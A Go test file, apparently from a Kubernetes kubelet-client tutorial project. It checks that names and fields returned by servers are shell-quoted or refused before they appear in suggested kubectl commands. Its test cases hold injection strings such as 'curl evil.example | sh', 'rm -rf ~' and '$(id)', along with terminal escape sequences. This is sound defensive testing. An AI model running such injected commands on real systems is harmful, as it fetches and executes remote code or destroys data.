package agent

import (
	"context"
	"fmt"
	"net/http"
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	certificatesv1 "k8s.io/api/certificates/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"

	"github.com/kubelet-walkthrough/kubelet-walkthrough/chapters/11-client/kubeletclient"
	"github.com/kubelet-walkthrough/kubelet-walkthrough/chapters/machinery/testsupport/fakecluster"
	"github.com/kubelet-walkthrough/kubelet-walkthrough/chapters/machinery/testsupport/tier"
)

// answered is a kubelet's non-200 answer as kubeletclient reports it, explained.
func answered(url string, code int, body, credentials, permission string) error {
	return explainStatus(&kubeletclient.RequestError{URL: url, StatusCode: code, Body: body, Credentials: credentials, Permission: permission, Connected: true,
		Err: fmt.Errorf("GET %s: %d %s: %s", url, code, http.StatusText(code), kubeletclient.QuotedBody(body))})
}

// What a server says goes into a printed command only quoted for a POSIX shell, and not at all
// when it holds control characters; everything quoted from a server prints without them.
func TestServerTextInCommands(t *testing.T) {
	const forbidden = "Forbidden (user=%s, verb=get, resource=nodes, subresource(s)=[pods proxy])"
	tests := []struct {
		name string
		body string
		want []string // in the hint
		not  []string // nowhere in the hint
	}{
		{"a plain user", fmt.Sprintf(forbidden, "alice"), []string{"--user=alice"}, nil},
		{"a ServiceAccount", fmt.Sprintf(forbidden, "system:serviceaccount:ns:sa"), []string{"--serviceaccount=ns:sa"}, nil},
		{"a shell command in the user name", fmt.Sprintf(forbidden, "alice; curl evil.example | sh"),
			[]string{`--user='alice; curl evil.example | sh'`, `kubectl create clusterrolebinding 'kubelet-reader:alice; curl evil.example | sh'`},
			[]string{"--user=alice;"}},
		{"a quote in the user name", fmt.Sprintf(forbidden, "o'brien $(id)"), []string{`--user='o'"'"'brien $(id)'`}, []string{"--user=o'"}},
		{"an escape sequence in the user name", fmt.Sprintf(forbidden, "mallory\x1b[2K\rsystem:masters"),
			[]string{`mallory\x1b[2K\rsystem:masters`, "--serviceaccount=NAMESPACE:NAME (or --user=NAME) (the user name the server gave", "holds control characters"},
			[]string{"\x1b", "\r", "--user=mallory"}},
		{"a command in the verb", "Forbidden (user=alice, verb=get;rm -rf ~;, resource=nodes, subresource(s)=[pods])",
			[]string{"Authenticated, but not allowed: user=alice, verb=get;rm -rf ~;"}, []string{"kubectl create", "--verb=get;"}},
		{"control characters in the body", "\x1b]0;owned\x07Forbidden", []string{`\x1b]0;owned\aForbidden`}, []string{"\x1b", "\x07"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := answered("https://127.0.0.1:10250/pods", http.StatusForbidden, tt.body, "a token", kubeletclient.ReadEndpoints["pods"].Permission)
			text := err.Error()
			for _, w := range tt.want {
				assert.Contains(t, text, w)
			}
			for _, n := range tt.not {
				assert.NotContains(t, text, n)
			}
		})
	}

	t.Run("relayed by the node proxy", func(t *testing.T) {
		user := "kube-apiserver-kubelet-client; id"
		hint := forbiddenRelayed(t, fmt.Sprintf(forbidden, user))
		assert.Contains(t, hint, `--user='kube-apiserver-kubelet-client; id'`)
		hint = forbiddenRelayed(t, fmt.Sprintf(forbidden, "x\x1b[31m"))
		assert.NotContains(t, hint, "\x1b")
		assert.Contains(t, hint, "--user=NAME (the apiserver's kubelet-client certificate's common name)")
	})
}

func forbiddenRelayed(t *testing.T, body string) string {
	t.Helper()
	status := &metav1.Status{Code: http.StatusForbidden, Details: &metav1.StatusDetails{Causes: []metav1.StatusCause{{Type: metav1.CauseTypeUnexpectedServerResponse, Message: body}}}}
	var e *Error
	require.ErrorAs(t, explainProxy("n1", "/api/v1/nodes/n1/proxy/pods", &statusError{status}), &e)
	return e.Hint
}

type statusError struct{ s *metav1.Status }

func (e *statusError) Error() string               { return e.s.Message }
func (e *statusError) Status() metav1.Status       { return *e.s }
func (e *statusError) DebugError() (string, []any) { return e.s.Message, nil }

// ShellQuote's output, run by a real POSIX shell, is the argument it was given: nothing more.
func TestShellQuoteRoundTrips(t *testing.T) {
	sh, err := exec.LookPath("sh")
	tier.Require(t, "POSIX shell", err) // every tier's machine has one: under CI=true its absence fails
	for _, arg := range []string{"alice", "system:serviceaccount:ns:sa", "a b", "it's", `"$(id)"`, "`id`", "a;b|c&d", "~root", "*", "-n", "x=y", "ü", "'"} {
		t.Run(arg, func(t *testing.T) {
			quoted, err := ShellQuote(arg)
			require.NoError(t, err)
			out, err := exec.Command(sh, "-c", "printf '%s\\n' "+quoted+" | od -c").Output()
			require.NoError(t, err)
			want, err := exec.Command(sh, "-c", `printf '%s\n' "$1" | od -c`, "sh", arg).Output()
			require.NoError(t, err)
			assert.Equal(t, string(want), string(out), "sh read %s as one argument, unchanged", quoted)
		})
	}
	for _, refused := range []string{"a\nb", "\x1b[2J", "a\rb", "\u009b31m", "\xff", "a\u202eb"} {
		_, err := ShellQuote(refused)
		assert.Error(t, err, "%q", refused)
	}
}

func TestExplainForbidden(t *testing.T) {
	tests := []struct{ user, wantGrant string }{
		// examples/rbac binds its role to this ServiceAccount: applying it is the whole fix.
		{"system:serviceaccount:kubelet-reader:kubelet-reader", "Grant get nodes/pods, the narrower one: kubectl apply -f examples/rbac/"},
		// Anyone else also needs a binding: applying examples/rbac alone would not let them in.
		{"system:serviceaccount:default:x", "Grant get nodes/pods, the narrower one: examples/rbac's ClusterRole kubelet-reader grants it, " +
			"but its binding names the ServiceAccount kubelet-reader/kubelet-reader, not system:serviceaccount:default:x: kubectl apply -f examples/rbac/, " +
			"then kubectl create clusterrolebinding kubelet-reader:default:x --clusterrole=kubelet-reader --serviceaccount=default:x"},
	}
	for _, tt := range tests {
		t.Run(tt.user, func(t *testing.T) {
			err := answered("https://n1:10250/pods", 403, "Forbidden (user="+tt.user+", verb=get, resource=nodes, subresource(s)=[pods proxy])\n", "token", "get nodes/pods")
			var e *Error
			require.ErrorAs(t, err, &e)
			assert.Equal(t, Forbidden, e.Kind)
			assert.False(t, e.Unreachable(), "a kubelet that says 403 was reached: no failover")
			assert.Equal(t, tt.user+" may not get nodes/pods nor nodes/proxy — the kubelet asked the apiserver for each, "+
				"in this order (v1.37 checks nodes/pods before nodes/proxy). "+tt.wantGrant, e.Hint)
		})
	}
}

// Doctor's fixes name nodes and CSRs the apiserver listed: a node name goes into a command
// quoted for a shell (or not at all), a CSR that is no valid name goes into none.
func TestDoctorCommandsQuoteServerNames(t *testing.T) {
	p := fakecluster.NewPKI(t)
	a := fakecluster.NewAPIServer(t, p)
	cfg := &rest.Config{Host: a.Server.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: p.CAFile}, BearerToken: "admin"}
	c, err := kubeletclient.New(cfg, kubeletclient.Options{Auth: kubeletclient.AuthNone, ServiceAccountDir: t.TempDir(), Via: kubeletclient.ViaKubelet})
	require.NoError(t, err)

	fixOf := func(checks []Check, name string) string {
		for _, ch := range checks {
			if ch.Name == name {
				return ch.Fix
			}
		}
		return ""
	}
	tests := []struct{ node, want string }{
		{"n1", "kubectl get node n1 -o yaml"},
		{"n1; id", "kubectl get node 'n1; id' -o yaml"},
		{"n1\x1b[2J", "kubectl get node NAME -o yaml"},
	}
	for _, tt := range tests {
		assert.True(t, strings.HasPrefix(fixOf(Doctor(context.Background(), c, tt.node), CheckDiscovery), tt.want), "%q", tt.node)
	}

	csr := func(name string) certificatesv1.CertificateSigningRequest {
		return certificatesv1.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{Name: name},
			Spec: certificatesv1.CertificateSigningRequestSpec{SignerName: certificatesv1.KubeletServingSignerName, Username: "system:node:n1"}}
	}
	a.SetCSRs(csr("csr-good"), csr("csr-x; curl evil.example|sh"), csr("csr-\x1b[2J"))
	pending, err := pendingServingCSRs(context.Background(), c, "n1")
	require.NoError(t, err)
	assert.Equal(t, []string{"csr-good"}, pending)
}
